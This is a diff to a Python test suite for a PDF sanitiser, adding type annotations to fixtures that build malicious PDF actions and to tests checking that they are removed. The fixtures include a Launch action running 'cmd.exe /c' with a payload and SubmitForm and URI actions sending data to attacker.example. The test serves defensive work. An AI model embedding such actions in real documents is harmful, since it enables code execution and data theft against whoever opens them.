@@ -15,6 +15,7 @@ import shutil
 import subprocess  # nosec B404  # the test runs LibreOffice on a file it wrote itself
 from collections.abc import Callable
 from pathlib import Path
+from typing import Any
 
 import pikepdf
 import pytest
@@ -97,7 +98,7 @@ def active_content(data: bytes) -> list[str]:
                     found.append("embedded file")
                 if str(obj.get("/Subtype", "")) in _MEDIA_ANNOTATIONS:
                     found.append(f"annotation {obj.get('/Subtype')}")
-                children = [obj[key] for key in obj]
+                children = [obj[str(key)] for key in obj]
             else:
                 continue
             # Numbers and booleans come out as Python values; indirect objects are in the list.
@@ -139,7 +140,7 @@ def base_pdf(pages: int = 2) -> pikepdf.Pdf:
 def action(pdf: pikepdf.Pdf, kind: str = "/JavaScript", *, indirect: bool = True) -> pikepdf.Object:
     """An action of type ``kind`` with what that type needs, the payload in its text."""
     script = pdf.make_stream(f"app.alert('{PAYLOAD}')".encode())
-    extra: dict[str, pikepdf.Object | str] = {
+    extras: dict[str, dict[str, pikepdf.Object | str]] = {
         "/JavaScript": {"/JS": script},
         "/Launch": {"/F": f"cmd.exe /c {PAYLOAD}", "/Win": pikepdf.Dictionary(F=PAYLOAD)},
         "/SubmitForm": {"/F": f"https://attacker.example/{PAYLOAD}"},
@@ -149,7 +150,8 @@ def action(pdf: pikepdf.Pdf, kind: str = "/JavaScript", *, indirect: bool = True
         "/URI": {"/URI": f"https://attacker.example/{PAYLOAD}"},
         "/Named": {"/N": Name.Print},
         "/Hide": {"/T": PAYLOAD},
-    }.get(kind, {"/Payload": PAYLOAD})
+    }
+    extra = extras.get(kind, {"/Payload": PAYLOAD})
     made = pikepdf.Dictionary({"/Type": Name.Action, "/S": Name(kind), **extra})
     return pdf.make_indirect(made) if indirect else made
 
@@ -161,7 +163,9 @@ def goto(pdf: pikepdf.Pdf, page: int = 1) -> pikepdf.Dictionary:
 def outline(pdf: pikepdf.Pdf, titles: list[str]) -> list[pikepdf.Object]:
     """A flat outline of indirect items, returned in order."""
     root = pdf.make_indirect(pikepdf.Dictionary(Type=Name.Outlines))
-    items = [pdf.make_indirect(pikepdf.Dictionary(Title=title, Parent=root)) for title in titles]
+    items: list[pikepdf.Object] = [
+        pdf.make_indirect(pikepdf.Dictionary(Title=title, Parent=root)) for title in titles
+    ]
     for before, after in itertools.pairwise(items):
         before.Next, after.Prev = after, before
     root.First, root.Last, root.Count = items[0], items[-1], len(items)
@@ -415,7 +419,7 @@ def test_actions_behind_indirect_or_escaped_names_are_removed(
     cleaned = clean(source)
     assert active_content(cleaned) == []
     with pikepdf.open(io.BytesIO(cleaned)) as result:
-        annots_left = result.pages[0].obj.get("/Annots", [])
+        annots_left: Any = result.pages[0].obj.get("/Annots", [])
         assert all("/A" not in annot for annot in annots_left)
         assert "/A" not in result.Root.Outlines.First
 
@@ -536,7 +540,7 @@ def _place(pdf: pikepdf.Pdf, node: pikepdf.Object, slot: str, kind: str) -> None
         node.A = jump
 
 
-_trees = st.recursive(
+_trees: st.SearchStrategy[list[Any]] = st.recursive(
     st.just([]), lambda children: st.lists(children, min_size=1, max_size=3), max_leaves=8
 )
 
@@ -575,7 +579,7 @@ def test_an_action_anywhere_in_a_random_outline_annotation_or_field_tree_is_remo
             outline_items(subtree, item)  # type: ignore[arg-type]
 
     def fields(tree: list[list[object]], parent: pikepdf.Object | None) -> list[pikepdf.Object]:
-        made = []
+        made: list[pikepdf.Object] = []
         for subtree in tree:
             field = pdf.make_indirect(pikepdf.Dictionary(T=f"f{len(nodes)}"))
             if parent is not None:
